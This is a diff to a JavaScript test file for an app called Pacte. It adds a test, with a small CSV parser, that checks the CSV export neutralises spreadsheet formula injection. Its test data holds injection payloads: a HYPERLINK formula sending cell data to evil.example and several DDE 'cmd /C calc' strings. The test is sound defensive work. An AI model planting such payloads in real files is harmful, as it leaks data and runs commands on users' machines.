@@ -2,13 +2,18 @@
 // review (issue 11) about what Pacte writes for other programs to read, each
 // failing on the code before its fix:
 //   9. a title holding U+FFFF (stored before validation refused it, or by a
-//      restore) made the Atom feed unparseable for every subscriber.
+//      restore) made the Atom feed unparseable for every subscriber;
+//  10. a name such as =HYPERLINK(…) went as it is into the CSV export, where
+//      a spreadsheet runs it as a formula.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import os from 'node:os';
 import path from 'node:path';
 import {
-	useServer, Client, signedIn, csrfFrom, DATABASE_URL, databaseUrl,
+	useServer, Client, signedIn, registerPartner, csrfFrom, runPacte, dbArgs, assertCleanExit,
+	DATABASE_URL, databaseUrl,
 } from './lib.mjs';
 
 const srv = useServer();
@@ -54,6 +59,45 @@ async function commitment(fields) {
 	return r.json.commitment;
 }
 
+// A minimal RFC 4180 reader: the records of text as arrays of fields.
+function parseCsv(text) {
+	const rows = [];
+	let row = [], field = '', i = 0, quoted = false;
+	while (i < text.length) {
+		const c = text[i];
+		if (quoted) {
+			if (c === '"' && text[i + 1] === '"') {
+				field += '"';
+				i += 2;
+				continue;
+			}
+			if (c === '"')
+				quoted = false;
+			else
+				field += c;
+			i++;
+			continue;
+		}
+		if (c === '"') {
+			quoted = true;
+		} else if (c === ',') {
+			row.push(field);
+			field = '';
+		} else if (c === '\r' && text[i + 1] === '\n') {
+			row.push(field);
+			rows.push(row);
+			row = [];
+			field = '';
+			i++;
+		} else {
+			field += c;
+		}
+		i++;
+	}
+	assert.equal(field + row.join(''), '', 'the file ends with CRLF');
+	return rows;
+}
+
 test('finding 9: characters XML forbids, stored in a title, leave the Atom feed parseable', async () => {
 	const c = await commitment({ title: 'Placeholder title of finding nine', objectives: [19],
 		description: 'Placeholder description' });
@@ -76,4 +120,52 @@ test('finding 9: characters XML forbids, stored in a title, leave the Atom feed 
 	// The site's pages are HTML and keep the text as stored.
 	const page = await new Client(srv).get(`/commitments/${c.id}`);
 	assert.equal(page.status, 200);
+});
+
+test('finding 10: CSV export cells that a spreadsheet would run as formulas are neutralised', async () => {
+	const formulas = {
+		org_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+		description: '+cmd|\' /C calc\'!A0',
+		website: 'https://example.org/-minus',
+	};
+	const reg = await registerPartner(srv, formulas);
+	const other = await registerPartner(srv, { org_name: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+		description: '-2+3+cmd|\' /C calc\'!A0' });
+	// Accredited, so the export has them whatever it does with requests.
+	const pending = await runPacte(['actor', 'pending', ...dbArgs(srv.dir)]);
+	assertCleanExit(pending, 'pacte actor pending');
+	for (const name of [reg.name, other.name]) {
+		const line = pending.stdout.split('\n').find((l) => l.includes(name));
+		assert.ok(line, `${name} is pending:\n${pending.stdout}`);
+		const id = /\d+/.exec(line)[0];
+		assertCleanExit(await runPacte(['actor', 'decide', id, 'accredit', ...dbArgs(srv.dir)]),
+			'pacte actor decide');
+	}
+
+	const dir = await mkdtemp(path.join(os.tmpdir(), 'pacte-export-'));
+	try {
+		assertCleanExit(await runPacte(['export', '--out', dir, ...dbArgs(srv.dir)]), 'pacte export');
+		const rows = parseCsv(await readFile(path.join(dir, 'actor.csv'), 'utf8'));
+		const header = rows[0];
+		const col = (n) => header.indexOf(n);
+		const find = (name) => rows.find((r) => r[col('name')].endsWith(name));
+		const a = find(formulas.org_name), b = find('@SUM(1+1)*cmd|\' /C calc\'!A0');
+		assert.ok(a && b, 'both partners are exported');
+		assert.equal(a[col('name')], `'${formulas.org_name}`);
+		assert.equal(a[col('description')], `'${formulas.description}`);
+		assert.equal(a[col('website')], formulas.website, 'a cell starting otherwise is as it was');
+		assert.equal(b[col('name')], '\'@SUM(1+1)*cmd|\' /C calc\'!A0');
+		assert.equal(b[col('description')], '\'-2+3+cmd|\' /C calc\'!A0');
+		// Numbers stay numbers: the id column holds digits alone.
+		for (const r of rows.slice(1))
+			assert.match(r[col('id')], /^\d+$/);
+		for (const r of rows.slice(1))
+			for (const cell of r)
+				assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell of actor.csv: ${cell}`);
+		// The data package tells data users.
+		const pkg = JSON.parse(await readFile(path.join(dir, 'datapackage.json'), 'utf8'));
+		assert.match(pkg.description, /apostrophe/);
+	} finally {
+		await rm(dir, { recursive: true, force: true });
+	}
 });
